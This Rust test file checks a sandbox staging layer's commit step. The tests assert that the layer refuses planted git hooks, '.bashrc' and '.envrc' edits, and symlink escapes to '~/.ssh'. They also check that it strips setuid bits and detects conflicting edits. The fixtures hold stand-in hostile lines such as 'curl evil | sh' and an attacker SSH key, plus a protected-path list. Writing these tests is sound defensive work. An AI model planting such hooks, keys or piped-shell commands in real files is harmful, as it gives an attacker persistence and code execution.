//! Commit of staged changes into the real tree, and the attacks on it:
//! symlinks staged or swapped in to redirect writes, setuid bits,
//! protected files, and files changed behind the stager's back.

mod common;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};

use airlock_core::ErrorCode;
use airlock_fs::{ChangeKind, CommitOptions, ProtectedPaths, StagingArea, StagingStore};
use common::{mode_of, Fx};

fn area(fx: &Fx) -> StagingArea {
    StagingStore::open(std::path::Path::new(&format!("{}/state/staging", fx.root)))
        .unwrap()
        .area("s", &fx.ws)
        .unwrap()
}

fn opts() -> CommitOptions {
    CommitOptions::default()
}

fn refused_code(r: &airlock_fs::CommitReport, path: &str) -> ErrorCode {
    match r.refused.iter().find(|x| x.path == path) {
        Some(x) => x.code,
        None => panic!("{path} was not refused: {r:?}"),
    }
}

#[test]
fn commit_applies_every_kind_and_empties_the_area() {
    let fx = Fx::new();
    fx.write("old.txt", b"old\n");
    fx.write("src/lib.rs", b"// lib\n");
    let a = area(&fx);
    a.write(&fx.w("readme.txt"), b"hello, world\n", None)
        .unwrap();
    a.write(&fx.w("new/dir/file.txt"), b"new\n", Some(0o600))
        .unwrap();
    a.delete(&fx.w("old.txt")).unwrap();
    a.rename(&fx.w("src/lib.rs"), &fx.w("src/main.rs")).unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert!(r.refused.is_empty(), "{r:?}");
    assert_eq!(r.committed.len(), 7, "{r:?}");
    assert_eq!(fs::read(fx.w("readme.txt")).unwrap(), b"hello, world\n");
    assert_eq!(fs::read(fx.w("new/dir/file.txt")).unwrap(), b"new\n");
    assert_eq!(mode_of(&fx.w("new/dir/file.txt")), 0o600);
    assert!(fs::symlink_metadata(fx.w("old.txt")).is_err());
    assert!(fs::symlink_metadata(fx.w("src/lib.rs")).is_err());
    assert_eq!(fs::read(fx.w("src/main.rs")).unwrap(), b"// lib\n");
    assert!(a.changes().unwrap().is_empty());
    assert_eq!(
        fs::read_dir(a.upper_dir()).unwrap().count(),
        0,
        "upper emptied"
    );
    // No temp files left in the real tree.
    let leftovers: Vec<_> = walk(&fx.ws)
        .into_iter()
        .filter(|p| p.contains(".airlock-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

fn walk(dir: &str) -> Vec<String> {
    let mut out = Vec::new();
    for e in fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let p = e.path().to_str().unwrap().to_string();
        if e.file_type().unwrap().is_dir() {
            out.extend(walk(&p));
        }
        out.push(p);
    }
    out
}

#[test]
fn commit_of_named_paths_only() {
    let fx = Fx::new();
    let a = area(&fx);
    a.write(&fx.w("one.txt"), b"1", None).unwrap();
    a.write(&fx.w("two.txt"), b"2", None).unwrap();
    let r = a
        .commit(Some(&[fx.w("one.txt"), fx.w("nothing-here")]), &opts())
        .unwrap();
    assert_eq!(r.committed, vec![fx.w("one.txt")]);
    assert_eq!(refused_code(&r, &fx.w("nothing-here")), ErrorCode::NotFound);
    assert!(fs::metadata(fx.w("two.txt")).is_err());
    assert_eq!(a.changes().unwrap().len(), 1);
}

#[test]
fn conflicts_are_refused_and_stay_staged() {
    let fx = Fx::new();
    fx.write("a.txt", b"original\n");
    fx.write("same.txt", b"same\n");
    let a = area(&fx);
    a.write(&fx.w("a.txt"), b"staged\n", None).unwrap();
    a.write(&fx.w("b.txt"), b"staged\n", None).unwrap();
    a.write(&fx.w("same.txt"), b"staged\n", None).unwrap();
    // Behind our back: a.txt edited, b.txt created; same.txt rewritten with
    // identical content through a new inode (an editor's atomic save).
    fs::write(fx.w("a.txt"), b"edited by the user\n").unwrap();
    fs::write(fx.w("b.txt"), b"created by the user\n").unwrap();
    fs::write(fx.w("same.tmp"), b"same\n").unwrap();
    fs::rename(fx.w("same.tmp"), fx.w("same.txt")).unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert_eq!(refused_code(&r, &fx.w("a.txt")), ErrorCode::Conflict);
    assert_eq!(refused_code(&r, &fx.w("b.txt")), ErrorCode::Conflict);
    assert_eq!(r.committed, vec![fx.w("same.txt")]);
    assert_eq!(fs::read(fx.w("a.txt")).unwrap(), b"edited by the user\n");
    assert_eq!(fs::read(fx.w("b.txt")).unwrap(), b"created by the user\n");
    let left: Vec<_> = a.changes().unwrap().into_iter().map(|c| c.path).collect();
    assert_eq!(
        left,
        vec![fx.w("a.txt"), fx.w("b.txt")],
        "refused entries stay staged"
    );
    // A delete of a file changed since staging is a conflict too.
    fx.write("d.txt", b"d\n");
    a.delete(&fx.w("d.txt")).unwrap();
    fs::write(fx.w("d.txt"), b"d, edited\n").unwrap();
    let r = a.commit(Some(&[fx.w("d.txt")]), &opts()).unwrap();
    assert_eq!(refused_code(&r, &fx.w("d.txt")), ErrorCode::Conflict);
    assert!(fs::metadata(fx.w("d.txt")).is_ok());
}

#[test]
fn protected_paths_are_refused() {
    let fx = Fx::new();
    fs::create_dir_all(fx.w(".git/hooks")).unwrap();
    let a = area(&fx);
    a.write(
        &fx.w(".git/hooks/pre-commit"),
        b"#!/bin/sh\ncurl evil\n",
        Some(0o755),
    )
    .unwrap();
    a.write(&fx.w(".git/config"), b"[core]\n\tfsmonitor = evil\n", None)
        .unwrap();
    a.write(&fx.w(".vscode/tasks.json"), b"{}", None).unwrap();
    a.write(&fx.w(".envrc"), b"evil", None).unwrap();
    a.write(&fx.w("sub/.mcp.json"), b"{}", None).unwrap();
    a.write(&fx.w("ok.txt"), b"fine", None).unwrap();
    let r = a.commit(None, &opts()).unwrap();
    for p in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".vscode",
        ".vscode/tasks.json",
        ".envrc",
        "sub/.mcp.json",
    ] {
        assert_eq!(refused_code(&r, &fx.w(p)), ErrorCode::ProtectedPath, "{p}");
    }
    assert!(r.committed.contains(&fx.w("ok.txt")));
    assert!(fs::metadata(fx.w(".git/hooks/pre-commit")).is_err());
    assert!(fs::metadata(fx.w(".vscode")).is_err());
    // A custom list replaces the default.
    let custom = CommitOptions {
        protected: ProtectedPaths {
            patterns: vec!["**/.envrc".into()],
        },
    };
    let r = a.commit(None, &custom).unwrap();
    assert_eq!(refused_code(&r, &fx.w(".envrc")), ErrorCode::ProtectedPath);
    assert!(r.committed.contains(&fx.w(".git/config")));
}

#[test]
fn git_redirect_file_is_refused() {
    let fx = Fx::new();
    let a = area(&fx);
    a.write(&fx.w(".git"), b"gitdir: ../evil-git\n", None)
        .unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert_eq!(refused_code(&r, &fx.w(".git")), ErrorCode::ProtectedPath);
    assert!(fs::metadata(fx.w(".git")).is_err());
}

/// As a sandboxed command would leave it (written straight into upper):
/// a setuid file lands without its setuid bit.
#[test]
fn setuid_is_stripped_on_commit() {
    let fx = Fx::new();
    let a = area(&fx);
    let up = a.upper_dir().join("tool");
    fs::write(&up, b"#!/bin/sh\n").unwrap();
    fs::set_permissions(&up, fs::Permissions::from_mode(0o6755)).unwrap();
    assert_eq!(mode_of(up.to_str().unwrap()), 0o6755);
    a.record_bases().unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert_eq!(r.committed, vec![fx.w("tool")], "{r:?}");
    assert_eq!(mode_of(&fx.w("tool")), 0o755);
}

/// Entries written straight into upper have no fingerprint until
/// `record_bases`; commit refuses them rather than guess.
#[test]
fn commit_needs_recorded_bases() {
    let fx = Fx::new();
    let a = area(&fx);
    fs::write(a.upper_dir().join("readme.txt"), b"changed\n").unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert_eq!(refused_code(&r, &fx.w("readme.txt")), ErrorCode::Conflict);
    assert_eq!(fs::read(fx.w("readme.txt")).unwrap(), b"hello\n");
    a.record_bases().unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert_eq!(r.committed, vec![fx.w("readme.txt")]);
    assert_eq!(fs::read(fx.w("readme.txt")).unwrap(), b"changed\n");
}

#[test]
fn staged_symlinks_must_stay_inside() {
    let fx = Fx::new();
    fs::create_dir(fx.w("docs")).unwrap();
    symlink(format!("{}/.ssh", fx.home), fx.w("sshlink")).unwrap();
    let a = area(&fx);
    let up = a.upper_dir();
    fs::create_dir(up.join("docs")).unwrap();
    symlink(&fx.bashrc, up.join("abs")).unwrap();
    symlink("../.bashrc", up.join("rel-out")).unwrap();
    symlink("../../home/.bashrc", up.join("docs/deep-out")).unwrap();
    symlink("sshlink/id_rsa", up.join("via-real-link")).unwrap();
    symlink("../readme.txt", up.join("docs/ok")).unwrap();
    a.record_bases().unwrap();
    let r = a.commit(None, &opts()).unwrap();
    for p in ["abs", "rel-out", "docs/deep-out", "via-real-link"] {
        assert_eq!(refused_code(&r, &fx.w(p)), ErrorCode::PathEscape, "{p}");
        assert!(fs::symlink_metadata(fx.w(p)).is_err(), "{p} was created");
    }
    assert_eq!(r.committed, vec![fx.w("docs/ok")]);
    assert_eq!(
        fs::read_link(fx.w("docs/ok")).unwrap().to_str().unwrap(),
        "../readme.txt"
    );
    fx.assert_canaries_intact();
}

/// A symlink to `~` in the real tree (made earlier, or by the user) and a
/// sandbox that replaced it with a directory holding `.bashrc`: nothing may
/// be written through the real symlink.
#[test]
fn real_symlink_under_a_staged_directory_is_not_written_through() {
    let fx = Fx::new();
    symlink(&fx.home, fx.w("link")).unwrap();
    let a = area(&fx);
    let up = a.upper_dir();
    fs::create_dir(up.join("link")).unwrap();
    fs::write(up.join("link/.bashrc"), b"curl evil | sh\n").unwrap();
    fs::create_dir(up.join("link/.ssh")).unwrap();
    fs::write(up.join("link/.ssh/id_rsa"), b"attacker key\n").unwrap();
    a.record_bases().unwrap();
    let kinds: Vec<_> = a.changes().unwrap().into_iter().map(|c| c.kind).collect();
    assert!(
        kinds.contains(&ChangeKind::Dir) && kinds.contains(&ChangeKind::Added),
        "{kinds:?}"
    );
    let r = a.commit(None, &opts()).unwrap();
    assert!(r.committed.is_empty(), "{r:?}");
    assert!(!r.refused.is_empty());
    fx.assert_canaries_intact();
    // The staged symlink-then-file variant: upper has `link` as a symlink
    // to the real ~ (refused) and the real tree gets no `link/x` either.
    let b = area(&fx);
    b.discard(None).unwrap();
    fs::remove_file(fx.w("link")).unwrap();
    symlink(&fx.home, b.upper_dir().join("link")).unwrap();
    b.record_bases().unwrap();
    let r = b.commit(None, &opts()).unwrap();
    assert_eq!(refused_code(&r, &fx.w("link")), ErrorCode::PathEscape);
    b.write(&fx.w("link/.bashrc"), b"evil", None).unwrap_err();
    fx.assert_canaries_intact();
}

/// The real directory is swapped for a symlink to `~/.ssh` after staging
/// and before commit.
#[test]
fn real_dir_swapped_for_symlink_before_commit_is_refused() {
    let fx = Fx::new();
    fs::create_dir(fx.w("keys")).unwrap();
    fx.write("keys/notes.txt", b"notes\n");
    let a = area(&fx);
    a.write(
        &fx.w("keys/authorized_keys"),
        b"ssh-ed25519 ATTACKER\n",
        None,
    )
    .unwrap();
    a.write(&fx.w("keys/notes.txt"), b"edited\n", None).unwrap();
    a.delete(&fx.w("keys/notes.txt")).unwrap();
    a.write(&fx.w("keys/notes.txt"), b"edited\n", None).unwrap();
    fs::rename(fx.w("keys"), fx.w("keys.real")).unwrap();
    symlink(format!("{}/.ssh", fx.home), fx.w("keys")).unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert!(r.committed.is_empty(), "{r:?}");
    assert_eq!(
        refused_code(&r, &fx.w("keys/authorized_keys")),
        ErrorCode::PathEscape
    );
    assert_eq!(
        refused_code(&r, &fx.w("keys/notes.txt")),
        ErrorCode::PathEscape
    );
    fx.assert_canaries_intact();
    // The two files, and `keys` itself: no longer a directory in the real tree.
    assert_eq!(a.changes().unwrap().len(), 3, "refused entries stay staged");
}

/// Staged file over a real symlink: the symlink is replaced, its target is
/// not written.
#[test]
fn staged_file_replaces_real_symlink_without_following() {
    let fx = Fx::new();
    symlink(&fx.bashrc, fx.w("rc")).unwrap();
    let a = area(&fx);
    fs::write(a.upper_dir().join("rc"), b"plain file now\n").unwrap();
    a.record_bases().unwrap();
    let r = a.commit(None, &opts()).unwrap();
    assert_eq!(r.committed, vec![fx.w("rc")], "{r:?}");
    assert!(fs::symlink_metadata(fx.w("rc")).unwrap().is_file());
    assert_eq!(fs::read(fx.w("rc")).unwrap(), b"plain file now\n");
    fx.assert_canaries_intact();
}

fn whiteout(p: std::path::PathBuf) {
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &p,
        rustix::fs::FileType::CharacterDevice,
        rustix::fs::Mode::empty(),
        rustix::fs::makedev(0, 0),
    )
    .unwrap();
}

#[test]
fn deleting_a_nonempty_real_directory_is_refused() {
    let fx = Fx::new();
    fx.write("d/a", b"a");
    fs::create_dir(fx.w("empty")).unwrap();
    let a = area(&fx);
    // As the kernel leaves `rm -r d; rmdir empty`: 0/0 whiteouts.
    whiteout(a.upper_dir().join("d"));
    whiteout(a.upper_dir().join("empty"));
    a.record_bases().unwrap();
    let kinds: Vec<_> = a.changes().unwrap().into_iter().map(|c| c.kind).collect();
    assert_eq!(kinds, vec![ChangeKind::Deleted, ChangeKind::Deleted]);
    let r = a.commit(None, &opts()).unwrap();
    assert_eq!(refused_code(&r, &fx.w("d")), ErrorCode::InvalidValue);
    assert_eq!(r.committed, vec![fx.w("empty")]);
    assert!(fs::metadata(fx.w("d/a")).is_ok());
    assert!(fs::metadata(fx.w("empty")).is_err());
}
